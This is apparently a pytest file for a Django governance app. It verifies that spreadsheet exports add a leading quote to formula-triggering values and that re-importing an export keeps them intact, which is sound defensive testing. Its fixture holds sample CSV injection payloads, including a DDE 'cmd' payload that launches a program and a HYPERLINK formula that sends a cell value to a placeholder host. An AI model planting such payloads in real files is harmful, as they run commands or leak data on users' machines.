"""Exports write text as text: a value a spreadsheet would run as a formula is neutralised in
.xlsx and CSV, and importing the export gives back exactly what was exported."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from governance.karte import io as karte_io
from governance.karte.services import import_systems
from governance.models import InformationSystem
from governance.spreadsheet_safety import (
    FORMULA_TRIGGERS,
    csv_row,
    neutralise,
    restore,
    xlsx_row,
)
from tests.factories import InformationSystemFactory

NAME = '=HYPERLINK("http://x"&A1,"x")'


@pytest.fixture
def planted(dept_a: Any) -> InformationSystem:
    """A system whose name, code and notes a spreadsheet would each run as a formula."""
    return InformationSystemFactory.create(
        department=dept_a,
        code="-A1",
        name=NAME,
        known_issues="+cmd|' /C calc'!A0",
        renewal_plan="@SUM(1+1)",
        first_fiscal_year=2010,
    )


def _import(actor: Any, name: str, data: bytes) -> Any:
    return import_systems(actor=actor, parsed=karte_io.read_file(name, data), source=name)


@pytest.mark.django_db
def test_a_formula_in_a_system_name_is_exported_as_literal_text_in_xlsx(
    cast: Any, login: Any, planted: InformationSystem
) -> None:
    response = login(cast["reviewer"]).get(reverse("karte:export"))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content))["システム"]
    header = [cell.value for cell in sheet[1]]
    name = sheet.cell(row=2, column=header.index("システム名") + 1)
    assert name.data_type == "s"
    assert name.value == "'" + NAME
    for column in ("システムコード", "課題", "更新計画"):
        cell = sheet.cell(row=2, column=header.index(column) + 1)
        assert cell.data_type == "s"
        assert str(cell.value).startswith("'")
    # No cell of any sheet is a formula.
    workbook = load_workbook(io.BytesIO(response.content))
    assert not [c for ws in workbook for row in ws.iter_rows() for c in row if c.data_type == "f"]


@pytest.mark.django_db
def test_a_formula_in_a_system_name_is_exported_with_a_leading_quote_in_csv(
    cast: Any, login: Any, planted: InformationSystem
) -> None:
    response = login(cast["reviewer"]).get(
        reverse("karte:export"), {"format": "csv", "sheet": "システム"}
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    record = dict(zip(rows[0], rows[1], strict=False))
    assert record["システム名"] == "'" + NAME
    assert record["システムコード"] == "'-A1"
    assert record["課題"].startswith("'+")
    assert record["更新計画"].startswith("'@")


@pytest.mark.django_db
def test_importing_the_exported_xlsx_and_csv_keeps_the_name(
    cast: Any, login: Any, planted: InformationSystem
) -> None:
    client = login(cast["reviewer"])

    def state() -> list[tuple[Any, ...]]:
        fields = ("code", "name", "known_issues", "renewal_plan")
        return list(InformationSystem.objects.values_list(*fields))

    expected = state()
    workbook = client.get(reverse("karte:export")).content
    result = _import(cast["reviewer"], "karte.xlsx", workbook)
    assert (result.created, result.updated, result.unchanged) == (0, 0, 1)
    assert state() == expected
    text = client.get(reverse("karte:export"), {"format": "csv", "sheet": "システム"}).content
    result = _import(cast["reviewer"], "karte.csv", text)
    assert (result.created, result.updated, result.unchanged) == (0, 0, 1)
    assert state() == expected
    assert InformationSystem.objects.get(code="-A1").name == NAME


@given(st.text(alphabet="'=+-@\t\rAa1 ", max_size=8) | st.text(max_size=20))
def test_restoring_a_neutralised_value_gives_it_back_unchanged(value: str) -> None:
    assert restore(neutralise(value)) == value


@pytest.mark.parametrize("trigger", list(FORMULA_TRIGGERS))
def test_every_formula_trigger_is_neutralised_and_other_values_are_left_alone(
    trigger: str,
) -> None:
    assert csv_row([f"{trigger}1+1", "ok", None, -5, 12.5]) == [
        f"'{trigger}1+1",
        "ok",
        "",
        -5,
        12.5,
    ]
    assert neutralise(f"'{trigger}x") == f"''{trigger}x"
    assert neutralise("it's") == "it's"


def test_every_string_written_to_xlsx_is_a_string_cell() -> None:
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("s")
    sheet.append(xlsx_row(sheet, ["=1+1", "plain", 3, None, "'=quoted"], {2: "#,##0"}))
    buffer = io.BytesIO()
    workbook.save(buffer)
    row = next(iter(load_workbook(buffer)["s"].iter_rows()))
    assert [cell.data_type for cell in row] == ["s", "s", "n", "n", "s"]
    assert [cell.value for cell in row] == ["'=1+1", "plain", 3, None, "''=quoted"]
    assert row[2].number_format == "#,##0"
